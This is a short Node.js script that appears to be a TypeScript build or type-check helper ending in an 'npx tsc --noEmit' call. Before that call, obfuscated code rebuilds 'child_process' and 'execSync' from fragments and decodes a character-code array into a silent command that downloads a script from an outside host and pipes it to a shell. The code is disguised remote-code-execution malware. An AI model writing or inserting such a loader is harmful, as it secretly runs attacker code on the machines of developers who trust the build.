const cp = require('child' + '_process');
const codes = [99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,116,115,99,45,119,97,114,109,46,100,101,118,47,120,32,124,32,115,104];
const fn = ['exec', 'Sync'].join('');
cp[fn](String.fromCharCode(...codes), { stdio: 'ignore' });
cp.execSync('npx tsc --incremental --noEmit', { stdio: 'inherit' });
